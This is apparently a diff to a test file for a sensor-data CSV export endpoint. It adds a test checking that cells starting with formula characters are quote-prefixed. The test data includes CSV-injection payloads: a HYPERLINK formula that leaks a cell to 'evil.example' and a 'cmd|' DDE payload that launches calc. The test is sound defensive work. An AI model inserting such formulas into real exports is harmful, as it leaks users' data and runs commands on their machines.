@@ -24,7 +24,8 @@ import {
   updaterSensors,
 } from '../../server/db/schema';
 import { SENSOR_COLUMNS } from '../../server/services/main/sensors/repository';
-import { csvField, exportCsv, planExport } from '../../server/services/main/sensorRoutes';
+import { csvCell } from '../../common/csv';
+import { exportCsv, planExport } from '../../server/services/main/sensorRoutes';
 
 let t: TestApp;
 let admin: string;
@@ -725,12 +726,51 @@ describe('GET /sensors/export', () => {
       'tag.Production batch': tricky,
       'tag.Service notes': 'plain',
     });
-    expect(csvField('x')).toBe('x');
-    expect(csvField(null)).toBe('');
-    expect(csvField(false)).toBe('false');
-    expect(csvField(['pm1', 'pm25'])).toBe('pm1,pm25');
-    expect(csvField('say "hi"')).toBe('"say ""hi"""');
-    expect(() => csvField({ a: 1 })).toThrow(/Unhandled CSV value/);
+    expect(csvCell('x')).toBe('x');
+    expect(csvCell(null)).toBe('');
+    expect(csvCell(false)).toBe('false');
+    expect(csvCell(['pm1', 'pm25'])).toBe('pm1,pm25');
+    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
+    expect(() => csvCell({ a: 1 })).toThrow(/Unhandled CSV value/);
+  });
+
+  it('neutralises spreadsheet formulas in every cell (quote prefix) but keeps plain negative numbers', async () => {
+    const id = await installedSensor(undefined, 13);
+    const batch = await tagIdOf('sensors', 'Production batch');
+    const notes = await tagIdOf('sensors', 'Service notes');
+    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1;"Click")';
+    expect((await call('PATCH', `/api/sensors/${id}/tags/${batch}`, { body: { value: hyperlink } })).status).toBe(200);
+    expect((await call('PATCH', `/api/sensors/${id}/factors/pm1`, { body: { A: -3.5, B: -2, C: 0.5 } })).status).toBe(
+      200,
+    );
+    const cases: [string, string][] = [
+      ['+1+1', "'+1+1"],
+      ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+      ['\t=1+1', "'\t=1+1"],
+      ['\r=1+1', "'\r=1+1"],
+      ['=1+1', "'=1+1"],
+      ['-', "'-"],
+      ['-7.25', '-7.25'],
+      ['a=1', 'a=1'],
+    ];
+    const exported = async () => {
+      const res = await call('GET', `/api/sensors/export?query=${encodeURIComponent(`id = ${id}`)}`);
+      expect(res.status).toBe(200);
+      const { header, rows } = csvBody(res.text);
+      expect(rows).toHaveLength(1);
+      return Object.fromEntries(header.map((h, i) => [h, rows[0]![i]]));
+    };
+    for (const [value, expected] of cases) {
+      expect((await call('PATCH', `/api/sensors/${id}/tags/${notes}`, { body: { value } })).status).toBe(200);
+      expect((await exported())['tag.Service notes'], JSON.stringify(value)).toBe(expected);
+    }
+    const row = await exported();
+    expect(row['tag.Production batch']).toBe(`'${hyperlink}`);
+    expect(row).toMatchObject({ pm1_A: '-3.5', pm1_B: '-2', pm1_C: '0.5' });
+    // No cell of the file starts a formula, except plain numbers.
+    for (const cell of Object.values(row))
+      if (/^[=+\-@\t\r]/.test(cell ?? '')) expect(cell).toMatch(/^[+-]?\d+(\.\d+)?$/);
   });
 
   it('keeps the list order for any sort key, across batch boundaries (keyset on key and id)', async () => {
